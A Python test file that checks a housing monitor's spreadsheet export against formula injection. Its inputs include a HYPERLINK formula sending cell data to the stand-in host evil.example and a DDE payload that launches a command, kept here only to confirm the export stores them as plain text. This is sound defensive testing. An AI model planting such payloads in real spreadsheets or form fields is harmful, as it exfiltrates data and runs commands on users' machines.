"""Formula injection: every text cell of a spreadsheet the monitor writes stays text."""

from __future__ import annotations

from datetime import date

from openpyxl import load_workbook
from sqlmodel import Session

from eet.review import decisions

from eet.entry import services
from eet.accounts.access import SYSTEM
from eet.review.pack import write_pack
from eet.store.models import Bottleneck
from eet.entry.schemas import DwellingIn
from eet.entry.spreadsheet import neutralise
from eet.entry import living_lab

AS_OF, SINCE = date(2021, 5, 31), date(2021, 1, 15)
EVIL = '=HYPERLINK("http://evil.example/?"&A1,"klik")'


def test_neutralise_prefixes_formula_starts_only():
    assert [neutralise(v) for v in ("=1+1", "+31", "-x", "@SUM(A1)", "\tx", "Zeist", 5, None)] == \
        ["'=1+1", "'+31", "'-x", "'@SUM(A1)", "'\tx", "Zeist", 5, None]
    from eet.store import audit_trail as audit_view
    from eet.figures import dwelling_table
    assert dwelling_table.neutralise is neutralise and audit_view.neutralise is neutralise


def test_pack_xlsx_holds_no_formula_from_user_text(engine, tmp_path):
    with Session(engine) as session:
        services.upsert_dwelling(session, SYSTEM, DwellingIn(
            ref="ZST-0001", municipality="Zeist", site=EVIL, status="location_found",
            status_date=date(2021, 3, 1)))
        living_lab.save_bottleneck(session, SYSTEM, {"title": "=cmd|' /C calc'!A0", "domain": "housing",
                                                     "owner": "@owner", "status": "open", "raised_on": date(2021, 2, 1)})
        meeting = decisions.add_meeting(session, SYSTEM, {"held_on": "2021-05-27", "title": "+Mei"})
        decisions.add_decision(session, SYSTEM, {"meeting_id": meeting.id, "topic": "other",
                                                 "decision": "=1+1", "owner": "-Stuurgroep"})
        session.commit()
        path = tmp_path / "pack.xlsx"
        write_pack(session, SYSTEM, path, AS_OF, SINCE)
    book = load_workbook(path)
    texts = [cell for ws in book.worksheets for row in ws.iter_rows() for cell in row
             if isinstance(cell.value, str)]
    assert not [c.coordinate for c in texts if c.data_type == "f" or c.value.startswith("=")]
    values = {c.value for c in texts}
    assert "'" + EVIL in values and "'=1+1" in values and "'@owner" in values and "'-Stuurgroep" in values
